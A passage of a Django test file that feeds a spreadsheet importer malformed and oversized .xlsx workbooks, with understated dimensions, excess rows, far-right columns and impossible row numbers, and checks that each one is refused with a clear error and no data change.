    preview = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", content)})
    html = preview.content.decode()
    assert "5 actions will be updated" in html, error_summary(preview) or html[:3000]
    for action in actions:
        assert f"Note for action {action.pk}" in html
    token = client.session["commitments.import"]["token"]
    assert client.post("/import/confirm/", {"token": token}).status_code == 302
    assert sorted(StatusUpdate.objects.values_list("note", flat=True)) == sorted(f"Note for action {a.pk}" for a in actions)


def test_a_workbook_over_the_row_limit_is_refused_with_its_real_count_whatever_its_dimension(officer: Any, obligation: Any) -> None:
    from commitments.imports import MAX_ROWS

    rows = [["action_id", "version"], *([i, 1] for i in range(1, MAX_ROWS + 101))]
    content = understated(workbook_bytes(rows), "A1:B2")
    client = Client()
    client.force_login(officer)
    before = snapshot()
    response = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", content)})
    assert response.status_code == 200
    assert f"{MAX_ROWS + 100} rows of updates, more than the limit of {MAX_ROWS}" in error_summary(response)
    assert snapshot() == before and "commitments.import" not in client.session


def with_sheet_data(data: bytes, rows: str) -> bytes:
    """The workbook with its sheet's rows replaced by ``rows`` (XML), written as a program might."""
    return rewritten(data, SHEET, lambda xml: re.sub(rb"<sheetData>.*</sheetData>", f"<sheetData>{rows}</sheetData>".encode(), xml))


def test_a_workbook_far_over_the_row_limit_is_counted_only_so_far(officer: Any, obligation: Any) -> None:
    from commitments.imports import MAX_ROWS, MAX_ROWS_COUNTED

    header = '<row r="1"><c r="A1" t="inlineStr"><is><t>action_id</t></is></c><c r="B1" t="inlineStr"><is><t>version</t></is></c></row>'
    body = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c><c r="B{i}"><v>1</v></c></row>' for i in range(2, MAX_ROWS_COUNTED + 100))
    content = understated(with_sheet_data(workbook_bytes([["x"]]), header + body), "A1:B2")
    client = Client()
    client.force_login(officer)
    response = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", content)})
    assert f"more than {MAX_ROWS_COUNTED:,} rows of updates; the limit is {MAX_ROWS}" in error_summary(response)


def test_a_workbook_with_a_value_far_to_the_right_is_refused_and_empty_cells_there_are_not(officer: Any, obligation: Any) -> None:
    action = ActionFactory(obligation=obligation)
    header = '<row r="1"><c r="A1" t="inlineStr"><is><t>action_id</t></is></c><c r="B1" t="inlineStr"><is><t>version</t></is></c>'
    row = f'<row r="2"><c r="A2"><v>{action.pk}</v></c><c r="B2"><v>{action.version}</v></c>'
    note = '<c r="C1" t="inlineStr"><is><t>note</t></is></c></row>' + row + '<c r="C2" t="inlineStr"><is><t>Far right</t></is></c>'
    client = Client()
    client.force_login(officer)
    # A value in the last column there is (XFD): refused, never dropped.
    far = with_sheet_data(workbook_bytes([["x"]]), header + "</row>" + row + '<c r="XFD2"><v>1</v></c></row>')
    response = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", far)})
    assert "Row 2 has a value beyond column CV" in error_summary(response)
    # Empty cells out there (formatting, say) are no reason to refuse the file.
    empty = with_sheet_data(workbook_bytes([["x"]]), header + note + '<c r="XFD2"/></row>')
    response = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", empty)})
    assert "1 action will be updated" in response.content.decode(), error_summary(response)
    assert "Far right" in response.content.decode()


def test_a_sheet_with_rows_numbered_past_excels_last_row_is_refused(officer: Any, obligation: Any) -> None:
    content = rewritten(
        workbook_bytes([["action_id", "version"], [1, 1]]),
        SHEET,
        lambda xml: xml.replace(b'r="2"', b'r="2000000000"').replace(b'"A2"', b'"A2000000000"').replace(b'"B2"', b'"B2000000000"'),
    )
    client = Client()
    client.force_login(officer)
    response = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", content)})
    assert "could not be read as a spreadsheet" in error_summary(response)


# Six workbooks above: an understated dimension, one over the row limit, one far over it, a value
# far to the right and empty cells there, rows past Excel's last.
ISSUE_11_INPUTS_TRIED = (
    len(BAD_IDS) * len(ID_FILTERS)
    + len(PAGE_IDS)
    + len(TYPED_FILTERS) * 2
    + len(BAD_PAGE_SIZES)
    + len(LARGE_PAGE_SIZES)
    + len(HUGE_DAYS) * 4
    + len(HOSTILE_WORKBOOKS)
    + 6
)
